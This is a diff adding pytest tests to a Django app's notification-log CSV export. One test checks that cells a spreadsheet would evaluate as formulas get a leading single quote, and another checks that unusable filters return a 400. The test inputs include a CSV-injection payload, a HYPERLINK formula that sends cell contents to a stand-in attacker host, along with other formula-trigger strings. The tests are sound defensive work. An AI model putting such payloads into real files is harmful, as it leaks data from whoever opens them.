@@ -12,6 +12,7 @@ import time_machine
 from django.contrib.auth.models import Permission
 from django.urls import reverse
 
+from assets.models import Client
 from assets.tests.factories import AttributionFactory, ClientFactory
 from notifications.models import Canal, CodeErreur, NotificationLog, Statut, TypeNotification
 
@@ -185,6 +186,34 @@ def test_export_is_the_filtered_log_as_csv(staff_client):
     assert rows[1][2:4] == ["CAM-9", "Zoé"]
     assert rows[1][-1] == "refused, with a comma"
     assert rows[1][9] == "2026-06-15T09:00:00+02:00"  # local time, with its offset
+
+
+@pytest.mark.parametrize(
+    "hostile",
+    ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', "=1+1", "+33612345678", "-2+3", "@SUM(A1:A9)", "\tcmd", "\r=1+1"],
+)
+def test_export_neutralises_every_cell_a_spreadsheet_would_evaluate(staff_client, hostile):
+    """GIVEN a client name, a material code, a recipient and an error text that a spreadsheet reads as a formula,
+    WHEN the log is exported, THEN each such cell starts with a single quote (OWASP), the rest is unchanged."""
+    loan = AttributionFactory(materiel__code="=1+1")
+    # Written as old rows may hold it: a tab or CR is no longer accepted in a name on save.
+    Client.objects.filter(pk=loan.client_id).update(name=hostile)
+    make_log(loan, statut=Statut.ECHEC_PERMANENT, destinataire=hostile, erreur_message=hostile)
+    response = staff_client.get(reverse("notification_export"))
+    [row] = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))
+    assert row["materiel"] == "'=1+1"
+    for column in ("client", "destinataire", "erreur_message"):
+        assert row[column] == "'" + hostile, column
+    assert row["type_notification"] == "CREATION" and row["niveau_escalade"] == "0"
+
+
+@pytest.mark.parametrize("params", [{"loan": "9" * 20}, {"loan": "²"}, {"date_to": "9999-12-31"}, {"date_from": "0001-01-01"}])
+def test_export_with_a_bad_filter_is_refused_before_the_first_byte(staff_client, params):
+    """A filter that cannot be used is a 400 with the reason, not a download cut mid-stream nor the whole log."""
+    make_log(statut=Statut.ENVOYEE)
+    response = staff_client.get(reverse("notification_export"), params)
+    assert response.status_code == 400 and not response.streaming
+    assert next(iter(params)) in response.content.decode()
 
 
 def test_delivery_rate_per_channel_against_its_target(staff_client):
